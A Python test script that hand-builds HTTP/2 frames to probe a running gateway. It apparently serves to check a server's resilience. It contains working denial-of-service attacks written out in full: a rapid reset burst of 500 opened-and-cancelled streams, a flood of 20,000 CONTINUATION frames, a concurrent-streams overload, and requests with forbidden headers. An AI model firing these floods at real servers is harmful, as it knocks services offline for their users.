"""HTTP/2 checks and attacks against a running gateway, written frame by frame (only the
HPACK encoder comes from the `h2` project), so each attack is sent exactly as described.

usage: attacks.py HOST PORT CHECK [--tls CA_FILE SERVER_NAME]
CHECK: settings | rapid_reset | continuation_flood | concurrent_streams | forbidden_headers
Prints one JSON object with what the server did.
"""
import json
import socket
import ssl
import struct
import sys
import time

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL, REFUSED_STREAM = 0x8, 0x7


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Connection:
    def __init__(self, host, port, tls):
        raw = socket.create_connection((host, port), timeout=5)
        if tls:
            ca, name = tls
            context = ssl.create_default_context(cafile=ca)
            context.set_alpn_protocols(["h2"])
            raw = context.wrap_socket(raw, server_hostname=name)
            assert raw.selected_alpn_protocol() == "h2", raw.selected_alpn_protocol()
        self.sock = raw
        self.scheme = "https" if tls else "http"
        self.encoder = Encoder()
        self.buffer = b""
        self.closed = False
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def header_block(self, path):
        return self.encoder.encode(
            [(":method", "GET"), (":scheme", self.scheme), (":authority", "localhost"), (":path", path)]
        )

    def send(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True

    def frames(self, seconds, stop):
        """Reads frames for up to `seconds`, acking SETTINGS and PING, until `stop(frame)`."""
        deadline = time.time() + seconds
        while time.time() < deadline and not self.closed:
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                payload = self.buffer[9 : 9 + length]
                self.buffer = self.buffer[9 + length :]
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                if kind == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                got = (kind, flags, stream, payload)
                yield got
                if stop(got):
                    return
            self.sock.settimeout(max(0.05, deadline - time.time()))
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, TimeoutError):
                continue
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
            self.buffer += chunk


def goaway_code(payload):
    return int.from_bytes(payload[4:8], "big")


def settings(conn):
    values = {}
    for kind, flags, _, payload in conn.frames(3, lambda f: f[0] == SETTINGS and not f[1] & ACK):
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[i : i + 6])
                values[str(key)] = value
    return {"settings": values}


def rapid_reset(conn, streams=500):
    burst = b""
    for i in range(streams):
        stream = 1 + 2 * i
        burst += frame(HEADERS, END_STREAM | END_HEADERS, stream, conn.header_block("/v1/public/reset"))
        burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
    conn.send(burst)
    result = {"goaway": None, "responses": 0, "closed": False}
    for kind, _, _, payload in conn.frames(10, lambda f: f[0] == GOAWAY):
        if kind == HEADERS:
            result["responses"] += 1
        if kind == GOAWAY:
            result["goaway"] = goaway_code(payload)
    result["closed"] = conn.closed
    return result


def continuation_flood(conn, frames=20000):
    block = conn.header_block("/v1/public/flood")
    conn.send(frame(HEADERS, END_STREAM, 1, block))
    filler = frame(CONTINUATION, 0, 1, b"\x00" * 0)
    # Empty CONTINUATION frames, never END_HEADERS: the classic flood, then padding-sized ones.
    sent = 0
    for _ in range(frames // 100):
        conn.send(filler * 100)
        sent += 100
        if conn.closed:
            break
    result = {"goaway": None, "closed": False, "sent": sent}
    for kind, _, _, payload in conn.frames(10, lambda f: f[0] == GOAWAY):
        if kind == GOAWAY:
            result["goaway"] = goaway_code(payload)
    result["closed"] = conn.closed
    return result


def concurrent_streams(conn, streams=150):
    # Let the server's SETTINGS arrive and be acked first, so its limit applies.
    list(conn.frames(1, lambda f: f[0] == SETTINGS and not f[1] & ACK))
    burst = b""
    for i in range(streams):
        burst += frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, conn.header_block("/slow/1500"))
    conn.send(burst)
    refused, answered, open_streams = 0, 0, set(1 + 2 * i for i in range(streams))

    def done(f):
        return not open_streams

    for kind, flags, stream, payload in conn.frames(15, done):
        if kind == RST_STREAM and stream in open_streams:
            if int.from_bytes(payload[:4], "big") == REFUSED_STREAM:
                refused += 1
            open_streams.discard(stream)
        if kind == HEADERS and stream in open_streams:
            answered += 1
            if flags & END_STREAM:
                open_streams.discard(stream)
        if kind == DATA and flags & END_STREAM:
            open_streams.discard(stream)
        if kind == DATA and len(payload):
            conn.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))
    return {"refused": refused, "answered": answered, "unfinished": len(open_streams)}


def forbidden_headers(conn):
    """HTTP/1.1 framing and hop-by-hop headers, which RFC 9113 section 8.2.2 forbids in
    HTTP/2: each request on a stream of its own, with what the server answered on it."""
    sent = {
        "transfer-encoding": [("transfer-encoding", "chunked")],
        "connection": [("connection", "keep-alive")],
        "upgrade": [("upgrade", "websocket")],
        "te": [("te", "gzip")],
    }
    streams = {}
    for i, (name, extra) in enumerate(sent.items()):
        stream = 1 + 2 * i
        headers = [(":method", "GET"), (":scheme", conn.scheme), (":authority", "localhost"),
                   (":path", f"/v1/public/forbidden-{name}")] + extra
        conn.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, conn.encoder.encode(headers)))
        streams[stream] = name
    answers = {}
    for kind, _, stream, payload in conn.frames(5, lambda f: len(answers) == len(streams)):
        if stream in streams and streams[stream] not in answers:
            if kind == RST_STREAM:
                answers[streams[stream]] = f"reset {int.from_bytes(payload[:4], 'big')}"
            if kind == HEADERS:
                answers[streams[stream]] = "answered"
        if kind == GOAWAY:
            for name in streams.values():
                answers.setdefault(name, f"goaway {goaway_code(payload)}")
    return {"answers": answers}


def main():
    host, port, check = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    tls = None
    if len(sys.argv) > 4 and sys.argv[4] == "--tls":
        tls = (sys.argv[5], sys.argv[6])
    conn = Connection(host, port, tls)
    result = {
        "settings": settings,
        "rapid_reset": rapid_reset,
        "continuation_flood": continuation_flood,
        "concurrent_streams": concurrent_streams,
        "forbidden_headers": forbidden_headers,
    }[check](conn)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
